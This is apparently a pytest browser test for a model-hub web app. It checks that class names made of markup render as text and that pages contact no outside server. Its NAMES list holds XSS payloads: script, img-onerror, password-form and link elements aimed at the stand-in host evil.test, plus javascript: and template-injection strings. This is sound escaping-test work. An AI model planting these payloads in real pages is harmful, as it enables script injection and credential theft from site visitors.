"""Class names that are markup: the page shows them as text, wherever it shows them, and asks no other server."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from groupdnet_hub import GroupDNetPipeline, LabelSet
from groupdnet_hub.data.labels import label_picture
from tests.browser.conftest import chromium_with, serve
from tests.browser.visitor import message, open_page, open_tab, severe_entries, upload, wait_for
from tests.helpers.page_models import page_model

# At most 64 characters each; elements that come of one carry the mark, or lead to the host.
HOST = "http://evil.test"
NAMES = (
    f'<img src="{HOST}/i" onerror="mark29=1">',
    f'<script src="{HOST}/s" id=mark29></script>',
    f"<form action={HOST} id=mark29><input type=password>",
    f"![a]({HOST}/m) [mark29]({HOST}/l)",
    '<a href="javascript:mark29=1" id=mark29>go</a>',
    "<svg id=mark29 onload=mark29=1>",
    "</p>${mark29=1}{{value}}<style id=mark29>",
)
MADE = """
    return [...document.querySelectorAll("img, form, a, script, svg, style, input, iframe, link")].filter((one) =>
      one.id === "mark29" || [one.src, one.href, one.action].some((to) => `${to}`.match(/evil|javascript:/))
      || one.type === "password").map((one) => one.outerHTML)
"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Save ``model``, whose classes are named by the attacker, and ``strange.zip``, a look of another of theirs."""
    folder = tmp_path_factory.mktemp("markup")
    for name, names in (("model", NAMES), ("other", NAMES[::-1])):
        page_model(LabelSet.from_names(names), (32, 32)).save_pretrained(folder / name)
    pipe = GroupDNetPipeline.from_pretrained(folder / "other")
    label = np.repeat(np.arange(32)[:, None] * len(NAMES) // 32, 32, axis=1)
    pipe.sample(label, 1).save(folder / "strange.zip")
    maps = folder / "maps"
    maps.mkdir()
    pipe = GroupDNetPipeline.from_pretrained(folder / "model")
    look = pipe.sample(label, 1)
    look.codes.labels.to_file(maps / "classes.json")
    label_picture(look.mask, look.codes.labels).save(maps / "<img src=x id=mark29>.png")
    return folder


@pytest.fixture(scope="module")
def address(folder: Path) -> Iterator[str]:
    with serve(folder / "model", folder / "maps", folder) as (address, _):
        yield address


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """Open a Chromium that logs what it asks for."""
    with chromium_with(tmp_path_factory.mktemp("profile"), ("browser", "performance")) as opened:
        yield opened


def asked_elsewhere(browser: Any, address: str) -> list[str]:
    """Return addresses of other servers that were asked since the last call."""
    events = [json.loads(entry["message"])["message"] for entry in browser.get_log("performance")]
    asked = [e["params"]["request"]["url"] for e in events if e["method"] == "Network.requestWillBeSent"]
    return [url for url in asked if not url.startswith((address, "data:", "blob:", "about:", "chrome"))]


def check_page(browser: Any, address: str) -> None:
    assert browser.execute_script(MADE) == []
    assert browser.execute_script("return typeof mark29 === 'number'") is False
    assert asked_elsewhere(browser, address) == []
    assert severe_entries(browser) == []


def text(browser: Any) -> str:
    """Return all text, that of hidden parts too."""
    return browser.execute_script("return document.body.textContent")


@pytest.mark.slow
def test_names_are_text_wherever_the_page_shows_them(browser: Any, address: str, folder: Path) -> None:
    open_page(browser, address)
    asked_elsewhere(browser, "")
    for tab in ("Mix", "Morph", "Photo", "Map files"):
        open_tab(browser, tab)
        check_page(browser, address)
    assert all(name in text(browser) for name in NAMES)
    upload(browser, folder / "strange.zip", "#work")
    told = message(browser)
    assert "another model" in told
    assert NAMES[5] in told  # as it is written, no element of it
    check_page(browser, address)
    # All of it is there: whoever leaves while a question is drawn breaks gradio's stream off, which it logs.
    for path, last in (("evaluation", "Question 1 of"), ("programs", "One client is one session")):
        browser.get(f"{address}{path}")
        wait_for(lambda last=last: last in text(browser), path)
        check_page(browser, address)
